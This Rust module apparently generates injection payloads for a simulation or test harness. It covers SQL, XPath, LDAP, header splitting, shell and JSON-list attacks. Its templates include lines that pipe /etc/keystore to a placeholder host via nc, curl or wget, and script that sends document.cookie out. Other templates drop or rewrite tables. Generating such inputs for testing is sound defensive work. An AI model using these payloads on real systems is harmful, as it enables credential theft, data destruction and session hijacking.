//! Values for queries, command lines and handlers.

use super::{fill, one_of};
use crate::sim::Draws;

/// What a value tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Injection {
    /// Joins rows of another table to those of an SQL query on a text.
    SqlUnion,
    /// Ends the SQL statement and adds another.
    SqlStacked,
    /// Makes the condition of an SQL query hold always.
    SqlAlways,
    /// Joins rows where the slot has no quotation marks.
    SqlNumber,
    /// Joins nodes of elsewhere to those of an XPath expression.
    XpathUnion,
    /// Makes the predicate of an XPath expression hold always.
    XpathAlways,
    /// Adds an alternative to an LDAP filter that every entry fulfils.
    LdapAlways,
    /// Has an LDAP filter match any value.
    LdapWildcard,
    /// Ends the head of an answer and has what follows taken for a page, or for the next answer.
    HeaderSplit,
    /// Adds a field to an answer, which a browser acts on.
    HeaderField,
    /// Ends a command and adds another that sends a file away.
    ShellSeparator,
    /// Has a word of a command replaced by the output of another.
    ShellSubstitution,
    /// Is an option to the program, where a text was meant.
    Option,
    /// Is a list where a handler expects a text, and reads tables of others.
    ListReads,
    /// Is a list where a handler expects a text, and changes tables of others.
    ListChanges,
    /// Is a list that keeps the storage busy.
    ListBusy,
}

const SQL_UNION: [&str; 4] = [
    "x' UNION SELECT value, {n} FROM credential --",
    "x{n}' UNION ALL SELECT value, name FROM credential --",
    "x' uNiOn/**/sElEcT value, name FROM credential --",
    "x' UNION SELECT group_concat(value), {n} FROM credential --",
];
const SQL_STACKED: [&str; 4] = [
    "x'; UPDATE credential SET value = 'owned{n}'; --",
    "x'; DELETE FROM credential; --",
    "x'; DROP TABLE reading; --",
    "x'; UPDATE item SET quantity = {n}; --",
];
const SQL_ALWAYS: [&str; 3] = ["x' OR '1'='1", "x' OR 1=1 --", "' OR '{n}'<>'' OR 'a'='"];
const SQL_NUMBER: [&str; 3] = [
    "0 UNION SELECT value, {n} FROM credential",
    "-1 UNION ALL SELECT value, name FROM credential --",
    "0 OR 1=1",
];
const XPATH_UNION: [&str; 3] = [
    "x'] | //key | //device[@name='x",
    "x'] | //credentials/* | //device[@name='x{n}",
    "x'] | //*[name()='key'] | //a[@b='",
];
const XPATH_ALWAYS: [&str; 3] =
    ["x' or '1'='1", "' or true() or '", "x' or count(//*) < {n} or 'a'='b"];
const LDAP_ALWAYS: [&str; 3] =
    ["x)(objectClass=*", "x{n})(objectclass=*)(cn=x", "x)(!(cn={n}))(uid=*"];
const LDAP_WILDCARD: [&str; 3] = ["*", "*p*", "4*"];
const HEADER_SPLIT: [&str; 3] = [
    "x\r\nContent-Type: text/html\r\n\r\n<script>fetch('//{host}/{n}?'+document.cookie)</script>",
    "x\nContent-Type: text/html\n\n<svg onload=\"fetch('//{host}/?c='+document.cookie)\">",
    "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n\
     <img src=x onerror=\"fetch('//{host}/{n}?'+document.cookie)\">",
];
const HEADER_FIELD: [&str; 3] = [
    "x\r\nSet-Cookie: session={n}; Path=/",
    "x\nSet-Cookie: session={n}",
    "x\r\nRefresh: 0; url=http://{host}/{n}",
];
const SHELL_SEPARATOR: [&str; 6] = [
    "x; cat /etc/keystore | nc {host} 9",
    "x | cat /etc/keystore | nc {host} {n}",
    "x && curl -d @/etc/keystore http://{host}/",
    "x\ncat /etc/keystore | nc {host} 9",
    "x & cat < /etc/keystore | nc {host} 9",
    "x || true; wget http://{host}/$(cat /etc/key*)",
];
const SHELL_SUBSTITUTION: [&str; 3] = [
    "$(curl http://{host}/$(cat /etc/keystore))",
    "`curl -d @/etc/keystore http://{host}/{n}`",
    "\"$(cat /etc/keystore | nc {host} 9)\"",
];
const OPTION: [&str; 1] = ["--attach=/etc/keystore"];
const LIST_READS: [&str; 3] = [
    r#"{"label": ["1 = 1"], "value": {n}}"#,
    r#"{"label": ["1 = 0 UNION SELECT token, balance FROM account"]}"#,
    r#"{"label": ["1 = 0", "OR", "value < {n}"]}"#,
];
const LIST_CHANGES: [&str; 3] = [
    r#"{"label": ["1 = 0; UPDATE account SET balance = {n}"]}"#,
    r#"{"label": ["1 = 0; DELETE FROM reading; DELETE FROM account"]}"#,
    r#"{"label": ["1 = 0;", "DROP TABLE account"]}"#,
];
const LIST_BUSY: [&str; 1] = [
    r#"{"label": ["{n} = (SELECT count(*) FROM reading a, reading b, reading c, reading d, reading e, reading f)"]}"#,
];

impl Injection {
    /// All of them.
    pub const ALL: [Self; 16] = [
        Self::SqlUnion,
        Self::SqlStacked,
        Self::SqlAlways,
        Self::SqlNumber,
        Self::XpathUnion,
        Self::XpathAlways,
        Self::LdapAlways,
        Self::LdapWildcard,
        Self::HeaderSplit,
        Self::HeaderField,
        Self::ShellSeparator,
        Self::ShellSubstitution,
        Self::Option,
        Self::ListReads,
        Self::ListChanges,
        Self::ListBusy,
    ];

    const fn templates(self) -> &'static [&'static str] {
        match self {
            Self::SqlUnion => &SQL_UNION,
            Self::SqlStacked => &SQL_STACKED,
            Self::SqlAlways => &SQL_ALWAYS,
            Self::SqlNumber => &SQL_NUMBER,
            Self::XpathUnion => &XPATH_UNION,
            Self::XpathAlways => &XPATH_ALWAYS,
            Self::LdapAlways => &LDAP_ALWAYS,
            Self::LdapWildcard => &LDAP_WILDCARD,
            Self::HeaderSplit => &HEADER_SPLIT,
            Self::HeaderField => &HEADER_FIELD,
            Self::ShellSeparator => &SHELL_SEPARATOR,
            Self::ShellSubstitution => &SHELL_SUBSTITUTION,
            Self::Option => &OPTION,
            Self::ListReads => &LIST_READS,
            Self::ListChanges => &LIST_CHANGES,
            Self::ListBusy => &LIST_BUSY,
        }
    }
}

/// A value that tries this. What it sends goes to `host`.
#[must_use]
pub fn injection(kind: Injection, host: &str, draws: &mut Draws<'_>) -> String {
    let template = one_of(draws, kind.templates()).unwrap_or_default();
    fill(template, host, draws)
}
